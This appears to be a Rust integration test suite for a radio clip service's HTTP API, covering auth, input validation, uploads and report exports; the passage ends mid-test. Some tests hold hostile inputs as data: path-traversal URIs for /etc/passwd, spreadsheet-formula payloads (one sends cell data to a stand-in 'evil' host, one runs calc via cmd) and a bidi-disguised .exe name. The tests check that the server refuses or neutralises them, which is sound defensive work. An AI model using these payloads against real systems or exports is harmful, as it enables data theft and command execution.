//! The HTTP API: the auth matrix and malformed input in-process (`oneshot` on the router), and
//! uploads against the real server on port 0 — streaming, refusals, limits, races, a client
//! that hangs up. Every answer is checked for the JSON error shape; none may be a 500.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use loa::air::live::Live;
use loa::config::Config;
use loa::http::{AppState, router};
use loa::library::ingest::Library;
use loa::model::token::Role;
use loa::proof::Expect;
use loa::store::Store;
use loa::time::clock::SystemClock;
use serde_json::Value;
use tower::ServiceExt;

use crate::helpers::{Station, fixture};

const CBR: &str = "cbr128_stereo_44k.mp3";

/// A station's API in-process, with one operator and one district token.
struct Api {
    station: Station,
    state: AppState,
    operator: String,
    district: String,
}

fn api(extra_config: &str) -> Api {
    let station = Station::with_config(&format!("{}{extra_config}", crate::helpers::MINIMAL_CONFIG));
    let config = Config::load(&station.config_path()).unwrap();
    std::fs::create_dir_all(&config.station.data_dir).unwrap();
    let mut store = Store::open(&config.station.data_dir, &config.station.id).unwrap();
    let mut token = |role| {
        let secret = loa::model::token::generate().unwrap();
        store.create_token(role, "test", &loa::model::token::digest(&secret), chrono::Utc::now()).unwrap();
        secret
    };
    let (operator, district) = (token(Role::Operator), token(Role::District));
    let library = Library::open(&config.station.data_dir, config.clips).unwrap();
    let state = AppState::new(Arc::new(config), store, library, Arc::new(SystemClock), Live::default());
    Api { station, state, operator, district }
}

impl Api {
    /// One request through the real router; returns status and JSON (or text as a JSON string).
    async fn call(
        &self,
        method: &str,
        uri: &str,
        token: Option<&str>,
        body: Body,
        content_type: Option<&str>,
    ) -> (StatusCode, Value) {
        let mut request = Request::builder().method(method).uri(uri);
        if let Some(token) = token {
            request = request.header("authorization", format!("Bearer {token}"));
        }
        if let Some(content_type) = content_type {
            request = request.header("content-type", content_type);
        }
        self.send(request.body(body).unwrap()).await
    }

    /// Sends `request` as it is; the answer's status and body (JSON when it is).
    async fn send(&self, request: Request<Body>) -> (StatusCode, Value) {
        let (method, uri) = (request.method().clone(), request.uri().clone());
        let response = router(self.state.clone()).oneshot(request).await.unwrap();
        let status = response.status();
        assert_ne!(status, StatusCode::INTERNAL_SERVER_ERROR, "{method} {uri} gave a 500");
        let bytes = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
        let value = serde_json::from_slice(&bytes)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()));
        if status.is_client_error() {
            assert!(
                value["error"]["code"].is_string() && value["error"]["message"].is_string(),
                "{method} {uri}: error shape: {value}"
            );
        }
        (status, value)
    }

    async fn get(&self, uri: &str, token: Option<&str>) -> (StatusCode, Value) {
        self.call("GET", uri, token, Body::empty(), None).await
    }

    /// Serves the router on 127.0.0.1:0; returns its base URL.
    async fn serve(&self) -> String {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(loa::http::serve(listener, None, self.state.clone(), std::future::pending()));
        format!("http://{address}")
    }

    fn leftovers(&self) -> Vec<std::path::PathBuf> {
        std::fs::read_dir(self.station.data_dir().join("staging")).unwrap().map(|e| e.unwrap().path()).collect()
    }
}

fn form(file: Option<(&str, Vec<u8>)>, fields: &[(&str, &str)]) -> reqwest::multipart::Form {
    let mut form = reqwest::multipart::Form::new();
    for (name, value) in fields {
        form = form.text(name.to_string(), value.to_string());
    }
    if let Some((name, bytes)) = file {
        form = form.part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()).mime_str("audio/mpeg").unwrap(),
        );
    }
    form
}

const FIELDS: &[(&str, &str)] = &[("title", "Bản tin CCHC tuần 48"), ("topic", "cchc")];

async fn upload(base: &str, token: &str, form: reqwest::multipart::Form) -> (u16, Value) {
    let response = crate::helpers::http_client()
        .post(format!("{base}/api/v1/clips"))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn every_auth_case() {
    let api = api("");
    let (status, body) = api.get("/api/v1/clips", None).await;
    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::UNAUTHORIZED, Some("unauthorized")));
    let (status, _) = api.call("GET", "/api/v1/clips", None, Body::empty(), None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(api.get("/api/v1/clips", Some("loa_0000")).await.0, StatusCode::UNAUTHORIZED);
    assert_eq!(api.get("/api/v1/clips", Some(&api.district)).await.0, StatusCode::OK);
    assert_eq!(api.get("/api/v1/clips", Some(&api.operator)).await.0, StatusCode::OK);
    let (status, body) = api.call("DELETE", "/api/v1/clips/1", Some(&api.district), Body::empty(), None).await;
    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::FORBIDDEN, Some("forbidden")));
    let (status, _) =
        api.call("POST", "/api/v1/queue", Some(&api.district), Body::from("{}"), Some("application/json")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // A revoked token stops working at once.
    let revoked = api.state.store.call(|s| s.revoke_token(2, chrono::Utc::now())).await.unwrap();
    assert!(revoked.is_some());
    assert_eq!(api.get("/api/v1/clips", Some(&api.district)).await.0, StatusCode::UNAUTHORIZED);

    // The periods the page offers come from the station's calendar, named in Vietnamese.
    let (_, station) = api.get("/api/v1/station", Some(&api.operator)).await;
    let periods = station["report_periods"].as_array().unwrap();
    let names: Vec<&str> = periods.iter().map(|p| p["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["Tuần trước", "Tháng trước", "Quý này", "6 tháng", "Cả năm"]);
    assert!(periods[0]["label"].as_str().unwrap().starts_with("Tuần "), "{station}");

    // Health needs no token; metrics do (unless http.metrics_public). No quota, no fault: ok,
    // whether or not this machine's clock is NTP-synchronised (reported, not a fault).
    let (status, body) = api.get("/healthz", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "ok", "{body}");
    assert!(body["checks"]["clock_synced"].is_boolean());
    assert_eq!(body["checks"]["store"], "ok");
    assert_eq!(api.get("/metrics", None).await.0, StatusCode::UNAUTHORIZED);
    let (status, text) = api.get("/metrics", Some(&api.operator)).await;
    assert_eq!(status, StatusCode::OK);
    assert!(text.as_str().unwrap().contains("loa_http_requests_total{class=\"4xx\"}"), "{text}");
    let public = api_public_metrics().await;
    assert_eq!(public, StatusCode::OK);
}

#[tokio::test]
async fn a_quota_at_risk_degrades_health_and_shows_in_metrics() {
    let api = api("[[quota]]\ntopic = \"cchc\"\nper = \"week\"\n");
    let (status, health) = api.get("/healthz", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(health["status"], "degraded");
    assert_eq!(health["checks"]["quotas"][0]["status"], "at_risk", "{health}");
    assert_eq!(health["checks"]["quotas"][0]["reason"], "no_clip");
    let (_, metrics) = api.get("/metrics", Some(&api.district)).await;
    assert!(metrics.as_str().unwrap().contains("loa_quota_at_risk{topic=\"cchc\",language=\"\""), "{metrics}");
}

async fn api_public_metrics() -> StatusCode {
    api("[http]\nmetrics_public = true\n").get("/metrics", None).await.0
}

#[tokio::test]
async fn malformed_queries_and_paths_get_a_400_or_404_that_says_why() {
    let api = api("");
    let token = Some(api.operator.as_str());
    for (uri, status, hint) in [
        ("/api/v1/airtime?after_seq=abc", StatusCode::BAD_REQUEST, "after_seq: \"abc\" is not a whole number"),
        ("/api/v1/airtime?after_seq=-5", StatusCode::BAD_REQUEST, "negative"),
        ("/api/v1/airtime?limit=-1", StatusCode::BAD_REQUEST, "limit: \"-1\""),
        ("/api/v1/airtime?limit=0", StatusCode::BAD_REQUEST, "outside 1 to 10000"),
        ("/api/v1/airtime?limit=10001", StatusCode::BAD_REQUEST, "outside 1 to 10000"),
        ("/api/v1/airtime?from=2026-13-01", StatusCode::BAD_REQUEST, "from: \"2026-13-01\" is not a date"),
        ("/api/v1/airtime?format=xml", StatusCode::BAD_REQUEST, "format"),
        ("/api/v1/schedule?days=abc", StatusCode::BAD_REQUEST, "days"),
        ("/api/v1/schedule?days=0", StatusCode::BAD_REQUEST, "outside 1 to 7"),
        ("/api/v1/schedule?days=8", StatusCode::BAD_REQUEST, "outside 1 to 7"),
        ("/api/v1/clips/abc", StatusCode::BAD_REQUEST, "not a clip id"),
        ("/api/v1/clips/99", StatusCode::NOT_FOUND, "there is no clip 99"),
        ("/api/v1/clips/99/audio", StatusCode::NOT_FOUND, "there is no clip 99"),
        ("/api/v1/clips/..%2F..%2Fetc%2Fpasswd/audio", StatusCode::BAD_REQUEST, "not a clip id"),
        ("/api/v1/../../etc/passwd", StatusCode::NOT_FOUND, "no such route"),
        ("/api/v2/clips", StatusCode::NOT_FOUND, "no such route"),
    ] {
        let (got, body) = api.get(uri, token).await;
        assert_eq!(got, status, "{uri}: {body}");
        assert!(body["error"]["message"].as_str().unwrap().contains(hint), "{uri}: `{hint}` not in {body}");
    }
    for (body, status, hint) in [
        ("not json", StatusCode::BAD_REQUEST, "send JSON like"),
        (r#"{"clip_id": 1, "when": "later"}"#, StatusCode::BAD_REQUEST, "when: now or next_slot"),
        (r#"{"clip_id": 42, "when": "now"}"#, StatusCode::NOT_FOUND, "there is no clip 42"),
    ] {
        let (got, answer) = api.call("POST", "/api/v1/queue", token, Body::from(body), Some("application/json")).await;
        assert_eq!(got, status, "{body}: {answer}");
        assert!(answer["error"]["message"].as_str().unwrap().contains(hint), "{answer}");
    }
    let (got, _) = api.call("PUT", "/api/v1/clips", token, Body::empty(), None).await;
    assert_eq!(got, StatusCode::METHOD_NOT_ALLOWED);
    let (got, body) = api.call("POST", "/api/v1/clips", token, Body::from("x"), Some("text/plain")).await;
    assert_eq!(got, StatusCode::BAD_REQUEST, "{body}");
}

#[tokio::test]
async fn upload_list_show_audio_queue_retire_and_pull_airtime() {
    let api = api("");
    let base = api.serve().await;
    // A window around today, whatever day the test runs: the schedule below must hold the clip.
    let today = chrono::Utc::now().date_naive();
    let (from, until) = ((today - chrono::Days::new(12)).to_string(), (today + chrono::Days::new(26)).to_string());
    let fields = [
        ("title", "Bản tin CCHC tuần 48"),
        ("topic", "cchc"),
        ("language", "hmn"),
        ("priority", "priority"),
        ("valid_from", from.as_str()),
        ("valid_until", until.as_str()),
    ];
    let (status, clip) = upload(&base, &api.operator, form(Some(("ban-tin.mp3", fixture(CBR))), &fields)).await;
    assert_eq!(status, 201, "{clip}");
    for (key, value) in [
        ("title", "Bản tin CCHC tuần 48"),
        ("language", "hmn"),
        ("priority", "priority"),
        ("valid_until", until.as_str()),
    ] {
        assert_eq!(clip[key], value, "{key}");
    }
    for key in [
        "id",
        "sha256",
        "duration_ms",
        "sample_rate",
        "channels",
        "loudness_lufs",
        "peak_dbfs",
        "size_bytes",
        "created_at",
        "valid_from",
        "topic",
    ] {
        assert!(!clip[key].is_null(), "clip JSON lacks {key}: {clip}");
    }
    assert_eq!(clip["duration_ms"], 2000);

    let (status, again) = upload(&base, &api.operator, form(Some(("copy.mp3", fixture(CBR))), FIELDS)).await;
    assert_eq!(
        (status, again["error"]["code"].as_str(), again["error"]["clip_id"].as_i64()),
        (409, Some("duplicate"), Some(1))
    );

    let (status, list) = api.get("/api/v1/clips", Some(&api.district)).await;
    assert_eq!((status, list["clips"].as_array().unwrap().len()), (StatusCode::OK, 1));
    assert_eq!(api.get("/api/v1/clips/1", Some(&api.district)).await.1["sha256"], clip["sha256"]);

    let audio = crate::helpers::http_client()
        .get(format!("{base}/api/v1/clips/1/audio"))
        .bearer_auth(&api.district)
        .header("range", "bytes=0-99")
        .send()
        .await
        .unwrap();
    assert_eq!(audio.status().as_u16(), 206);
    assert_eq!(audio.headers()["content-type"], "audio/mpeg");
    assert!(audio.headers()["content-range"].to_str().unwrap().starts_with("bytes 0-99/"));
    assert_eq!(audio.bytes().await.unwrap().as_ref(), &fixture(CBR)[..100]);

    let (status, item) = api
        .call(
            "POST",
            "/api/v1/queue",
            Some(&api.operator),
            Body::from(r#"{"clip_id": 1, "when": "next_slot"}"#),
            Some("application/json"),
        )
        .await;
    assert_eq!(
        (status, item["clip_id"].as_i64(), item["when"].as_str()),
        (StatusCode::ACCEPTED, Some(1), Some("next_slot"))
    );
    let (status, schedule) = api.get("/api/v1/schedule?days=2", Some(&api.district)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(schedule["slots"][0]["items"][0]["queued"], true, "{schedule}");

    let (status, _) = api.call("DELETE", "/api/v1/clips/1", Some(&api.operator), Body::empty(), None).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert!(api.get("/api/v1/clips/1", Some(&api.operator)).await.1["retired_at"].is_string());

    // The log pulled over HTTP is the CLI's log: it verifies, in pages, with continuity.
    let (status, page) = api.get("/api/v1/airtime?limit=2", Some(&api.district)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(page["public_key"], api.state.public_key);
    let next = page["next_after_seq"].as_i64().unwrap();
    assert_eq!(page["events"].as_array().unwrap().len(), 2);
    assert!(page["head"]["seq"].as_i64().unwrap() > next, "the head is the station's, beyond the page");
    let key = loa::proof::parse_public_key(&api.state.public_key).unwrap();
    let (_, first) = api.get("/api/v1/airtime?limit=2&format=jsonl", Some(&api.district)).await;
    let (first, _) = loa::proof::export::verify(first.as_str().unwrap(), key, Expect::default()).unwrap();
    assert_eq!(first.last_seq, next);
    // The next pull overlaps by one event: it must begin with the head this one ended at.
    let (_, rest) = api.get(&format!("/api/v1/airtime?after_seq={}&format=jsonl", next - 1), Some(&api.district)).await;
    let expect = Expect { head: Some((first.last_seq, first.last_hash)), ..Expect::default() };
    let (verified, _) = loa::proof::export::verify(rest.as_str().unwrap(), key, expect).unwrap();
    assert!(verified.events >= 2, "clip_added, then the tokens and the retirement follow");
    let csv = crate::helpers::http_client()
        .get(format!("{base}/api/v1/airtime?format=csv"))
        .bearer_auth(&api.district)
        .send()
        .await
        .unwrap();
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let (_, now) = api.get("/api/v1/airtime?limit=1", Some(&api.district)).await;
    let head = format!("{}:{}", now["head"]["seq"], now["head"]["hash"].as_str().unwrap());
    assert_eq!(csv.headers()["loa-head"], head.as_str(), "every format says the station's head");
    assert!(csv.text().await.unwrap().starts_with("\u{feff}seq,kind,at_utc,at_local"));
}

#[tokio::test]
async fn each_bad_upload_is_refused_and_leaves_nothing() {
    let api = api("");
    let base = api.serve().await;
    let mut truncated = fixture(CBR);
    truncated.truncate(truncated.len() * 6 / 10);
    type Case<'a> = (Option<(&'a str, Vec<u8>)>, Vec<(&'a str, &'a str)>, u16, &'a str);
    let cases: Vec<Case> = vec![
        (Some(("a.mp3", vec![])), FIELDS.to_vec(), 415, "empty"),
        (Some(("a.mp3", b"hello, not audio".to_vec())), FIELDS.to_vec(), 415, "not_mp3"),
        (Some(("a.mp3", fixture("wav_renamed.mp3"))), FIELDS.to_vec(), 415, "not_mp3"),
        (Some(("a.mp3", truncated)), FIELDS.to_vec(), 415, "truncated"),
        (Some(("a.mp3", fixture("silent.mp3"))), FIELDS.to_vec(), 415, "silent"),
        (None, FIELDS.to_vec(), 422, "invalid_field"),
        (Some(("a.mp3", fixture(CBR))), vec![("topic", "cchc")], 422, "invalid_field"),
        (Some(("a.mp3", fixture(CBR))), vec![("title", "x"), ("topic", "CCHC!")], 422, "invalid_field"),
        (
            Some(("a.mp3", fixture(CBR))),
            vec![("title", "x"), ("topic", "cchc"), ("valid_from", "2026-12-02"), ("valid_until", "2026-12-01")],
            422,
            "invalid_field",
        ),
        (
            Some(("a.mp3", fixture(CBR))),
            vec![("title", "x"), ("topic", "cchc"), ("valid_from", "02/12/2026")],
            422,
            "invalid_field",
        ),
        (
            Some(("a.mp3", fixture(CBR))),
            vec![("title", "x"), ("topic", "cchc"), ("colour", "blue")],
            422,
            "invalid_field",
        ),
    ];
    for (file, fields, status, code) in cases {
        let (got, body) = upload(&base, &api.operator, form(file, &fields)).await;
        assert_eq!((got, body["error"]["code"].as_str()), (status, Some(code)), "{fields:?}: {body}");
        assert!(api.leftovers().is_empty(), "staging left {:?}", api.leftovers());
    }
    assert!(api.get("/api/v1/clips", Some(&api.operator)).await.1["clips"].as_array().unwrap().is_empty());
    assert!(std::fs::read_dir(api.station.data_dir().join("clips")).unwrap().next().is_none());
}

#[tokio::test]
async fn an_oversize_upload_is_cut_off_with_413() {
    let api = api("[http]\nmax_upload_mib = 1\n");
    let base = api.serve().await;
    let mut big = fixture(CBR);
    big.resize(3 * 1024 * 1024, 0);
    let (status, body) = upload(&base, &api.operator, form(Some(("big.mp3", big)), FIELDS)).await;
    assert_eq!((status, body["error"]["code"].as_str()), (413, Some("too_large")), "{body}");
    assert!(api.leftovers().is_empty());
}

#[tokio::test]
async fn concurrent_uploads_of_one_file_make_one_clip() {
    let api = api("");
    let base = api.serve().await;
    let uploads: Vec<_> = (0..3)
        .map(|_| {
            let (base, token) = (base.clone(), api.operator.clone());
            tokio::spawn(async move { upload(&base, &token, form(Some(("a.mp3", fixture(CBR))), FIELDS)).await })
        })
        .collect();
    let mut statuses = Vec::new();
    for upload in uploads {
        statuses.push(upload.await.unwrap().0);
    }
    statuses.sort();
    assert_eq!(statuses, [201, 409, 409]);
    assert!(api.leftovers().is_empty());
}

#[tokio::test]
async fn a_client_that_hangs_up_mid_upload_leaves_nothing() {
    use tokio::io::AsyncWriteExt;
    let api = api("");
    let base = api.serve().await;
    let address = base.trim_start_matches("http://").to_owned();
    let mut socket = tokio::net::TcpStream::connect(&address).await.unwrap();
    let head = format!(
        "POST /api/v1/clips HTTP/1.1\r\nhost: {address}\r\nauthorization: Bearer {}\r\ncontent-type: multipart/form-data; boundary=XYZ\r\ncontent-length: 10000000\r\n\r\n--XYZ\r\ncontent-disposition: form-data; name=\"file\"; filename=\"a.mp3\"\r\n\r\n",
        api.operator
    );
    socket.write_all(head.as_bytes()).await.unwrap();
    socket.write_all(&fixture(CBR)).await.unwrap();
    // The upload is being staged…
    let staging = api.station.data_dir().join("staging");
    for _ in 0..100 {
        if std::fs::read_dir(&staging).unwrap().next().is_some() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert!(!api.leftovers().is_empty(), "the upload should be staging");
    drop(socket); // …and the client is gone.
    for _ in 0..100 {
        if api.leftovers().is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert!(api.leftovers().is_empty(), "staging left {:?}", api.leftovers());
    assert_eq!(api.get("/healthz", None).await.0, StatusCode::OK, "the server carries on");
}

#[tokio::test]
async fn the_openapi_document_and_the_routes_agree() {
    let api = api("");
    let (status, document) = api.get("/api/v1/openapi.json", None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(document["openapi"].as_str().unwrap().starts_with("3."), "{}", document["openapi"]);
    assert_eq!(document, serde_json::to_value(loa::http::openapi()).unwrap(), "served document = generated document");

    let paths = document["paths"].as_object().unwrap();
    let mut documented: Vec<&str> = paths.keys().map(String::as_str).collect();
    documented.sort();
    let mut contract = [
        "/healthz",
        "/metrics",
        "/api/v1/station",
        "/api/v1/clips",
        "/api/v1/clips/{id}",
        "/api/v1/clips/{id}/audio",
        "/api/v1/schedule",
        "/api/v1/queue",
        "/api/v1/airtime",
        "/api/v1/compliance",
        "/api/v1/compliance/link",
        "/api/v1/pair",
        "/api/v1/receipt",
        "/api/v1/office-bulletins",
    ];
    contract.sort();
    assert_eq!(documented, contract, "the document lists exactly the API's routes");

    // Every documented operation is routed: the router answers it with something other than
    // "no such route" or "method not allowed".
    for (path, operations) in paths {
        for method in operations.as_object().unwrap().keys() {
            let uri = path.replace("{id}", "1");
            let (status, body) = api.call(&method.to_uppercase(), &uri, Some(&api.operator), Body::empty(), None).await;
            assert!(
                status != StatusCode::METHOD_NOT_ALLOWED
                    && !(status == StatusCode::NOT_FOUND
                        && body["error"]["message"].as_str().is_some_and(|m| m.contains("no such route"))),
                "{method} {path} is documented but not routed: {status} {body}"
            );
        }
    }
}

#[tokio::test]
async fn an_upload_that_would_eat_the_disk_reserve_is_refused_with_507() {
    // A reserve larger than any disk: every upload must be refused before a byte is staged.
    let api = api("[clips]\nkeep_free_mib = 1000000000\n");
    let base = api.serve().await;
    let (status, body) = upload(&base, &api.operator, form(Some(("a.mp3", fixture(CBR))), FIELDS)).await;
    assert_eq!((status, body["error"]["code"].as_str()), (507, Some("disk_full")), "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(message.contains("clips.keep_free_mib") && message.contains("MiB free"), "{message}");
    assert!(api.leftovers().is_empty());
    assert!(api.get("/api/v1/clips", Some(&api.operator)).await.1["clips"].as_array().unwrap().is_empty());

    let run = api.station.add(&api.station.input("a.mp3", &fixture(CBR)), &[]);
    assert_eq!(run.code, 1, "the CLI refuses too: {}", run.stderr);
    assert!(run.error_line().contains("clips.keep_free_mib"), "{}", run.stderr);
}

#[tokio::test]
async fn the_operator_page_is_served_from_the_binary_with_nothing_from_outside() {
    let api = api("");
    for (path, kind) in [("/", "text/html"), ("/app.js", "text/javascript"), ("/app.css", "text/css")] {
        let response =
            router(api.state.clone()).oneshot(Request::get(path).body(Body::empty()).unwrap()).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let headers = response.headers().clone();
        assert!(headers["content-type"].to_str().unwrap().starts_with(kind), "{path}: {headers:?}");
        assert!(headers["content-security-policy"].to_str().unwrap().contains("default-src 'self'"), "{path}");
        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
        let text = String::from_utf8(body.to_vec()).unwrap();
        assert!(!text.contains("http://") && !text.contains("https://"), "{path} refers to another site");
    }
    let page = api.get("/", None).await.1;
    let page = page.as_str().unwrap();
    assert!(page.contains("lang=\"vi\"") && page.contains("Nhật ký phát sóng") && page.contains("width=device-width"));
}

/// A body of `total` bytes made as it is read, counting what the server pulled.
fn counted_body(total: usize, pulled: Arc<std::sync::atomic::AtomicUsize>) -> Body {
    const CHUNK: usize = 64 * 1024;
    let chunks = (0..total.div_ceil(CHUNK)).map(move |_| {
        pulled.fetch_add(CHUNK, std::sync::atomic::Ordering::Relaxed);
        Ok::<_, std::io::Error>(axum::body::Bytes::from(vec![b'{'; CHUNK]))
    });
    Body::from_stream(stream_of(chunks))
}

fn stream_of<I: Iterator + Send + Unpin + 'static>(items: I) -> impl futures_core::Stream<Item = I::Item> + Send
where
    I::Item: Send,
{
    struct Iter<I>(I);
    impl<I: Iterator + Unpin> futures_core::Stream for Iter<I> {
        type Item = I::Item;
        fn poll_next(
            mut self: std::pin::Pin<&mut Self>,
            _: &mut std::task::Context,
        ) -> std::task::Poll<Option<I::Item>> {
            std::task::Poll::Ready(self.0.next())
        }
    }
    Iter(items)
}

#[tokio::test]
async fn bodies_are_bounded_before_any_token_is_looked_at() {
    let api = api("");
    // A declared length over the route's bound: 413 at once, even with no token at all.
    let request = Request::builder()
        .method("POST")
        .uri("/api/v1/queue")
        .header("content-length", "1610612736")
        .body(Body::empty())
        .unwrap();
    let response = router(api.state.clone()).oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let request = Request::builder()
        .method("POST")
        .uri("/api/v1/clips")
        .header("content-length", (1u64 << 30).to_string())
        .header("authorization", format!("Bearer {}", api.district))
        .body(Body::empty())
        .unwrap();
    assert_eq!(router(api.state.clone()).oneshot(request).await.unwrap().status(), StatusCode::PAYLOAD_TOO_LARGE);

    // 1.5 GiB sent without a length with a read-only token: refused without reading it.
    let pulled = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let body = counted_body(1536 << 20, pulled.clone());
    let (status, _) = api.call("POST", "/api/v1/queue", Some(&api.district), body, Some("application/json")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(pulled.load(std::sync::atomic::Ordering::Relaxed) <= 1 << 20, "the body was read before the role check");
    // With an operator token: read only up to the bound, then 413.
    let pulled = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let body = counted_body(1536 << 20, pulled.clone());
    let (status, answer) = api.call("POST", "/api/v1/queue", Some(&api.operator), body, Some("application/json")).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{answer}");
    assert_eq!(answer["error"]["code"], "too_large");
    assert!(pulled.load(std::sync::atomic::Ordering::Relaxed) <= 1 << 20, "read past the bound");
}

#[tokio::test]
async fn the_bearer_scheme_is_case_insensitive_and_answers_carry_security_headers() {
    let api = api("");
    for scheme in ["bearer", "BEARER", "Bearer"] {
        let request = Request::builder()
            .uri("/api/v1/station")
            .header("authorization", format!("{scheme} {}", api.district))
            .body(Body::empty())
            .unwrap();
        let response = router(api.state.clone()).oneshot(request).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{scheme}");
        let headers = response.headers();
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(headers["x-frame-options"], "DENY");
    }
}

#[tokio::test]
async fn spreadsheet_formulas_in_titles_are_neutralised_in_csv_and_bidi_controls_refused() {
    let api = api("");
    let base = api.serve().await;
    let titles = [
        "=HYPERLINK(\"http://evil/?x=\"&A2,\"Bấm vào đây\")",
        "=cmd|' /C calc'!A0",
        "+Thông báo",
        "-Thông báo",
        "@SUM(1+1)",
    ];
    for (i, title) in titles.iter().enumerate() {
        let fixture_name =
            ["cbr128_stereo_44k.mp3", "vbr_stereo_44k.mp3", "mono_22k.mp3", "mpeg2_16k.mp3", "mpeg25_8k.mp3"][i];
        let (status, answer) = upload(
            &base,
            &api.operator,
            form(Some(("a.mp3", fixture(fixture_name))), &[("title", title), ("topic", "cchc")]),
        )
        .await;
        assert_eq!(status, 201, "{title}: {answer}");
    }
    let (status, csv) = api.get("/api/v1/airtime?format=csv", Some(&api.district)).await;
    assert_eq!(status, StatusCode::OK);
    let csv = csv.as_str().unwrap();
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let column = reader.headers().unwrap().iter().position(|h| h == "title").unwrap();
    let cells: Vec<String> =
        reader.records().map(|r| r.unwrap()[column].to_owned()).filter(|c| !c.is_empty()).collect();
    assert_eq!(cells.len(), 5, "{cells:?}");
    for cell in &cells {
        assert!(cell.starts_with('\''), "a formula reaches the spreadsheet: {cell}");
    }
    // A true number stays a number.
    assert_eq!(loa::proof::export::spreadsheet_safe("-1840"), "-1840");
    assert_eq!(loa::proof::export::spreadsheet_safe("Bản tin"), "Bản tin");
    assert_eq!(loa::proof::export::spreadsheet_safe("\tx"), "'\tx");
    assert_eq!(loa::proof::export::spreadsheet_safe("\r=1"), "'\r=1");

    let (status, answer) = upload(
        &base,
        &api.operator,
        form(Some(("b.mp3", fixture("silent.mp3"))), &[("title", "Thông báo \u{202E}3pm.exe"), ("topic", "cchc")]),
    )
    .await;
    assert_eq!(status, 422, "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap().contains("U+202E"), "{answer}");
}

#[tokio::test]
async fn the_printable_report_is_styled_under_the_pages_content_security_policy() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let api = api("");
    let page =
        router(api.state.clone()).oneshot(Request::builder().uri("/").body(Body::empty()).unwrap()).await.unwrap();
    let policy = page.headers()["content-security-policy"].to_str().unwrap().to_owned();
    let (status, report) = api.get("/api/v1/compliance?period=2026&format=html", Some(&api.district)).await;
    assert_eq!(status, StatusCode::OK);
    let report = report.as_str().unwrap();
    let style = report.split("<style>").nth(1).unwrap().split("</style>").next().unwrap();
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(style.as_bytes()));
    assert!(policy.contains(&format!("'sha256-{hash}'")), "the report's style is not allowed: {policy}");
    assert!(!report.contains(" style="), "a style attribute would be blocked");
}

#[tokio::test]
async fn the_printable_report_opens_at_a_signed_link_without_a_token() {
    let api = api("");
    let (status, link) = api.get("/api/v1/compliance/link?period=2026-Q4", Some(&api.district)).await;
    assert_eq!(status, StatusCode::OK, "{link}");
    let url = link["url"].as_str().unwrap().to_owned();
    assert!(url.starts_with("/reports/compliance?period=2026-Q4&expires="), "{url}");
    let open = |url: String| {
        let router = router(api.state.clone());
        async move {
            let response = router.oneshot(Request::builder().uri(url).body(Body::empty()).unwrap()).await.unwrap();
            let status = response.status();
            let bytes = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
            (status, String::from_utf8_lossy(&bytes).into_owned())
        }
    };
    let (status, page) = open(url.clone()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("Báo cáo kết quả phát thanh cải cách hành chính"), "{page}");
    // Another period, or an edited signature, is refused.
    let (status, _) = open(url.replace("2026-Q4", "2026-Q3")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // (The signature's last digit changed; one in sixteen times it was already `0`.)
    let other = if url.ends_with('0') { '1' } else { '0' };
    let (status, _) = open(format!("{}{other}", &url[..url.len() - 1])).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(api.get("/api/v1/compliance/link?period=2026-Q4", None).await.0, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn a_pairing_code_makes_one_token_once() {
    let api = api("");
    let code = loa::model::token::pairing_code().unwrap();
    assert!(code.len() == 9 && code.as_bytes()[4] == b'-', "{code}");
    let digest = loa::model::token::digest(&loa::model::token::normalise_code(&code));
    let now = chrono::Utc::now();
    api.state
        .store
        .call(move |s| s.create_pairing(Role::Operator, "Chị Lan", &digest, now, now + chrono::TimeDelta::minutes(10)))
        .await
        .unwrap();
    // The page sends the code in a header, with no body.
    let pair = |code: String| {
        let request =
            Request::builder().method("POST").uri("/api/v1/pair").header("authorization", format!("Pairing {code}"));
        api.send(request.body(Body::empty()).unwrap())
    };
    // Typed in lower case without the dash, as a phone keyboard might.
    let (status, answer) = pair(code.to_lowercase().replace('-', "")).await;
